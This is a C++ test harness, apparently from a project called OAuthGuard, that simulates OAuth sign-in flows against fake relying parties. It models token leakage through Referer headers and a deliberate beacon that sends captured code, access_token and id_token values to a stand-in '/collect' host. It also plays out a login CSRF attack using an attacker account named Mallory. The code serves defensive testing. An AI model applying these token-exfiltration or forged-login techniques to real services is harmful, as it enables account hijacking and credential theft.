// Copyright 2026 The OAuthGuard Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "oauthguard/harness/flows.hpp"

#include <algorithm>

namespace oauthguard::harness {

namespace {

WebResponse support_host_page(const WebRequest& request) {
  if (request.path.size() >= 4 &&
      request.path.compare(request.path.size() - 4, 4, ".gif") == 0) {
    WebResponse r;
    r.content_type = "image/gif";
    r.body = std::string("GIF89a\x01\x00\x01\x00\x80\x00\x00;", 13);
    return r;
  }
  if (request.path == "/collect") {
    WebResponse r;
    r.content_type = "text/plain";
    r.body = "ok";
    return r;
  }
  return WebResponse::page("<html><body><h1>" + request.host +
                           "</h1><div id=\"sso\">Sign in</div></body></html>");
}

}  // namespace

Harness::Harness() {
  idp_.add_user({"u-mallory-666", "mallory@example.test", "Mallory"});
  web_.add_host(idp_.host(), [this](const WebRequest& r) {
    return idp_.handle(r);
  }, /*serve_https=*/true, /*serve_http=*/false);
}

Harness::~Harness() { stop(); }

void Harness::ensure_support_host(const std::string& host) {
  if (support_hosts_.insert(host).second) {
    web_.add_host(host, support_host_page, /*serve_https=*/true,
                  /*serve_http=*/false);
  }
}

RpPersona* Harness::add_persona(const RpProfile& profile) {
  auto persona = std::make_unique<RpPersona>(profile, &idp_);
  RpPersona* raw = persona.get();
  personas_[profile.name] = std::move(persona);

  web_.add_host(profile.host(), [raw](const WebRequest& r) {
    return raw->handle(r);
  }, /*serve_https=*/profile.uses_https || profile.https_available,
     /*serve_http=*/!profile.uses_https);

  for (const auto& host : profile.third_party_resources) {
    ensure_support_host(host);
  }
  if (profile.intentional_leak_target) {
    ensure_support_host(*profile.intentional_leak_target);
  }
  if (profile.via_proxy_service) {
    ensure_support_host(*profile.via_proxy_service);
  }
  return raw;
}

void Harness::add_personas(const std::vector<RpProfile>& profiles) {
  for (const auto& profile : profiles) add_persona(profile);
}

void Harness::start() { web_.start(); }
void Harness::stop() { web_.stop(); }

RpPersona* Harness::persona(const std::string& name) {
  auto it = personas_.find(name);
  return it == personas_.end() ? nullptr : it->second.get();
}

FlowRunner::FlowRunner(Harness& harness, UaOptions ua_options)
    : harness_(harness), ua_options_(std::move(ua_options)) {}

FlowResult FlowRunner::run(RpPersona& persona, const FlowOptions& options) {
  if (options.mode == FlowMode::kCsrfForged) {
    return run_forged(persona, options);
  }
  return run_legitimate(persona, options);
}

UserAgent::NavResult FlowRunner::approve(UserAgent& ua,
                                         const UserAgent::NavResult&,
                                         const UrlParts& chooser_url,
                                         const std::string& user_email,
                                         UserAgent::StopPredicate stop) {
  UrlParts approve_url = chooser_url;
  approve_url.path = "/signin/oauth/approve";
  approve_url.query.clear();
  approve_url.fragment.reset();

  auto rid = chooser_url.query_value("rid");
  UserAgent::Form form;
  form.body = serialize_query(
      {{"rid", rid.value_or("")}, {"user", user_email}});
  return ua.navigate("POST", approve_url, chooser_url.serialize(), form,
                     std::move(stop));
}

void FlowRunner::finish_sign_in(UserAgent& ua, RpPersona& persona,
                                UserAgent::NavResult at, FlowResult* result) {
  const RpProfile& p = persona.profile();
  auto finish = [&] {
    result->final_status = at.status;
    result->final_body = at.body;
    result->blocked = result->blocked || at.blocked;
    result->error = at.error;
    result->completed =
        at.ok && at.status == 200 && at.final_url.path == "/welcome";
  };

  if (!at.ok) {
    finish();
    return;
  }

  // Callback page script: extract fragment artifacts and submit them to
  // the sign-in endpoint.
  if (at.status == 200 && at.final_url.path == "/google/authcallback" &&
      p.fragment_delivery()) {
    UrlParts submit = at.final_url;
    submit.path = "/google/signin";
    submit.fragment.reset();
    submit.query.clear();
    for (const auto& token : p.tokens_submitted) {
      if (auto it = at.fragment_params.find(token);
          it != at.fragment_params.end()) {
        submit.query.emplace_back(token, it->second);
      }
    }
    if (auto it = at.fragment_params.find("state");
        it != at.fragment_params.end()) {
      submit.query.emplace_back("state", it->second);
    }
    std::string page = at.final_url.serialize_without_fragment();
    at = ua.navigate("GET", submit, page);
    if (!at.ok || at.blocked) {
      finish();
      return;
    }
  }

  // Embedded third-party content on the token-bearing page; the browser
  // reveals the page URL in each fetch's Referer.
  if (at.status == 200 && !p.third_party_resources.empty() &&
      (at.final_url.path == "/google/authcallback" ||
       at.final_url.path == "/google/signin")) {
    std::string page = at.final_url.serialize_without_fragment();
    int index = 0;
    for (const auto& host : p.third_party_resources) {
      UrlParts resource;
      resource.scheme = Scheme::kHttps;
      resource.host = host;
      resource.port = 443;
      resource.path = "/r/" + std::to_string(index++) + ".gif";
      ua.request("GET", resource, page);  // a blocked fetch only loses the image
    }
    UrlParts welcome = at.final_url;
    welcome.path = "/welcome";
    welcome.query.clear();
    welcome.fragment.reset();
    at = ua.navigate("GET", welcome, page);
    if (!at.ok) {
      finish();
      return;
    }
  }

  // Deliberate forward: the welcome page ships the received tokens to a
  // collector.
  if (at.status == 200 && at.final_url.path == "/welcome" &&
      p.intentional_leak_target) {
    ParamMap tokens;
    const auto& recorded = ua.recorded();
    for (auto it = recorded.rbegin(); it != recorded.rend(); ++it) {
      const auto& path = it->first.url.path;
      if (path != "/google/authcallback" && path != "/google/signin") continue;
      ParamMap params = extract_params(it->first);
      for (const char* name : {"code", "access_token", "id_token"}) {
        if (auto found = params.find(name);
            found != params.end() && !found->second.empty()) {
          tokens.emplace(name, found->second);
        }
      }
      if (!tokens.empty()) break;
    }
    std::string page = at.final_url.serialize_without_fragment();
    for (int i = 0; i < p.intentional_leak_requests; ++i) {
      UrlParts beacon;
      beacon.scheme = Scheme::kHttps;
      beacon.host = *p.intentional_leak_target;
      beacon.port = 443;
      beacon.path = "/collect";
      for (const auto& [name, value] : tokens) {
        beacon.query.emplace_back(name, value);
      }
      beacon.query.emplace_back("seq", std::to_string(i));
      ua.request("GET", beacon, page);
    }
  }

  finish();
}

FlowResult FlowRunner::run_legitimate(RpPersona& persona,
                                      const FlowOptions& options) {
  FlowResult result;
  const RpProfile& p = persona.profile();
  persona.reset_sign_in();
  UserAgent ua(ua_options_);

  UrlParts landing;
  if (p.via_proxy_service) {
    landing = parse_url("https://" + *p.via_proxy_service +
                        "/assets/sso_popup.html?rp=" + p.name);
  } else {
    landing = parse_url(p.origin() + "/");
  }
  auto at = ua.navigate("GET", landing, std::nullopt);
  if (!at.ok || at.status != 200) {
    result.error = at.error.empty() ? "landing page unavailable" : at.error;
    result.final_status = at.status;
    result.recorded = ua.recorded();
    return result;
  }
  std::string landing_url = landing.serialize();

  if (p.via_proxy_service) {
    // the popup launches the authorization request itself; the user is
    // already signed in at the IdP, so consent is skipped
    at = ua.navigate("GET", parse_url(persona.make_authorize_url(true)),
                     landing_url);
  } else {
    at = ua.navigate("GET", parse_url(p.origin() + "/signin/start"),
                     landing_url);
  }

  if (at.ok && at.status == 200 && at.final_url.host == harness_.idp().host() &&
      at.final_url.path == harness_.idp().chooser_path()) {
    at = approve(ua, at, at.final_url,
                 options.user_email.value_or(
                     harness_.idp().default_user().email));
  }

  finish_sign_in(ua, persona, std::move(at), &result);
  result.signed_in = persona.last_sign_in();
  result.recorded = ua.recorded();
  return result;
}

FlowResult FlowRunner::run_forged(RpPersona& persona,
                                  const FlowOptions& options) {
  FlowResult result;
  const RpProfile& p = persona.profile();
  persona.reset_sign_in();

  // Attacker phase, on the attacker's own machine: run a sign-in up to
  // the authorization response and hold onto it instead of delivering.
  UaOptions attacker_options;
  attacker_options.resolver = harness_.resolver();
  attacker_options.record = false;
  UserAgent attacker(attacker_options);

  const std::string rp_host = p.host();
  auto stop_at_rp = [rp_host](const UrlParts& next) {
    return next.host == rp_host;
  };
  auto at = attacker.navigate("GET", parse_url(persona.make_authorize_url()),
                              p.origin() + "/", std::nullopt, stop_at_rp);
  if (at.ok && at.status == 200 &&
      at.final_url.host == harness_.idp().host() &&
      at.final_url.path == harness_.idp().chooser_path()) {
    at = approve(attacker, at, at.final_url,
                 options.user_email.value_or("mallory@example.test"),
                 stop_at_rp);
  }
  if (!at.stopped) {
    result.error = "attacker could not obtain an authorization response";
    return result;
  }
  UrlParts forged = at.pending_url;

  // Victim phase: the victim has started their own sign-in (so a request
  // record exists), then the attacker's response arrives cross-site.
  UserAgent victim(ua_options_);
  auto landing = parse_url(p.origin() + "/");
  auto l = victim.navigate("GET", landing, std::nullopt);
  if (!l.ok) {
    result.error = "victim cannot reach the relying party";
    result.recorded = victim.recorded();
    return result;
  }
  victim.navigate("GET", parse_url(p.origin() + "/signin/start"),
                  landing.serialize());  // abandoned at the chooser

  auto delivery = victim.navigate("GET", forged, options.attacker_referer);
  if (delivery.blocked) {
    result.blocked = true;
    result.final_status = delivery.status;
    result.final_body = delivery.body;
  } else {
    finish_sign_in(victim, persona, std::move(delivery), &result);
  }
  result.signed_in = persona.last_sign_in();
  result.recorded = victim.recorded();
  return result;
}

}  // namespace oauthguard::harness
